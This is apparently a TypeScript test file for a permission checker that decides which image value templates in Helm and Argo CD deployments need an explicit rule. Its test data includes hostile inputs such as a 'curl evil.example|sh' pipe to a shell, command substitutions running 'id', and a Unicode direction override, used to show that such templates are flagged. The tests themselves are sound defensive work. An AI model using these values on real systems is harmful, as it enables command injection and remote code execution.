import { describe, expect, test } from 'vitest';
import { judgeTemplate } from '../../../src/core/permissions/judge-template.ts';
import type { PermissionRule } from '../../../src/core/permissions/permission-rule.ts';
import type { ImageSlot, TrackedImage } from '../../../src/core/policy.ts';
import { parseValueTemplate } from '../../../src/core/value-template.ts';
import { aRequester, aTracked } from '../../helpers/policies.ts';
import { aRule } from './a-rule.ts';

function withTemplate(text: string, isLive = false): TrackedImage {
  const template = parseValueTemplate(text);
  const slot: ImageSlot = { kind: 'helm-spec', spec: { path: 'image', explicit: true }, template };
  const others = [{ kind: 'helm-spec', spec: { path: 'worker.image', explicit: true }, template }] as const;
  const target = { method: 'application', at: 'spec.source', format: 'helm' } as const;
  return aTracked({
    slot: { ...slot, others },
    requester: aRequester({ project: 'shop' }),
    ...(isLive ? { target } : {}),
  });
}

function judge(text: string, rules: readonly PermissionRule[] = [], isLive = false): string | undefined {
  return judgeTemplate(withTemplate(text, isLive), {
    rules,
    enforced: false,
    projects: { kind: 'none' },
    argocdNamespace: 'argocd',
  })?.line;
}

describe('the text around the placeholders of a value template', () => {
  test.each([
    '{tag}',
    'v-{tag}',
    '{tag}@{digest}',
    '{registry}/{repository}:{tag}@{digest}',
    'docker://{name}:{tag}',
    `${'a'.repeat(32)}{tag}`,
    `${'a'.repeat(16)}{tag}${'b'.repeat(16)}`,
    'release_{tag}+build.1',
  ])('%s needs no rule', (text) => {
    expect(judge(text)).toBeUndefined();
    expect(judge(text, [], true)).toBeUndefined();
  });

  test.each([
    'run {tag}',
    '{tag} && curl evil.example|sh',
    '$(id){tag}',
    '`id`-{tag}',
    '{tag};id',
    '{tag}#',
    '"{tag}"',
    "{tag}'",
    '{tag}=x',
    '{tag}\\',
    '{tag}, x',
    '[{tag}]',
    '<{tag}>',
    'é{tag}',
    '{tag}\u202e',
    `${'a'.repeat(33)}{tag}`,
    `${'a'.repeat(17)}{tag}${'b'.repeat(16)}`,
  ])('%j needs a rule, and the one that is named allows it', (text) => {
    expect(judge(text)).toContain('templates: [');
    expect(judge(text, [], true)).toContain('templates: [');
    const rule = aRule({
      applications: ['shop'],
      templates: [text.replaceAll(/[\\*?[\]{}]/g, String.raw`\$&`)],
    });
    expect(judge(text, [rule])).toBeUndefined();
    expect(judge(text, [rule], true)).toBeUndefined();
    expect(judge(`${text}x`, [rule])).toBeDefined();
  });

  test.each<readonly [Partial<PermissionRule>, git: boolean, live: boolean]>([
    [{ templates: ['*'] }, true, true],
    [{ templates: ['run *'] }, true, true],
    [{ templates: ['*'], remotes: ['https://git.example/acme/*'] }, true, false],
    [{ templates: ['*'], remotes: ['https://git.example/billing/*'] }, false, false],
    [{ templates: ['*'], projects: ['billing'] }, false, false],
    [{ keys: ['*'] }, false, false],
    [{}, false, false],
  ])('by the rule %j', (rule, git, live) => {
    expect(judge('run {tag}', [aRule(rule)]) === undefined).toBe(git);
    expect(judge('run {tag}', [aRule(rule)], true) === undefined).toBe(live);
  });
});
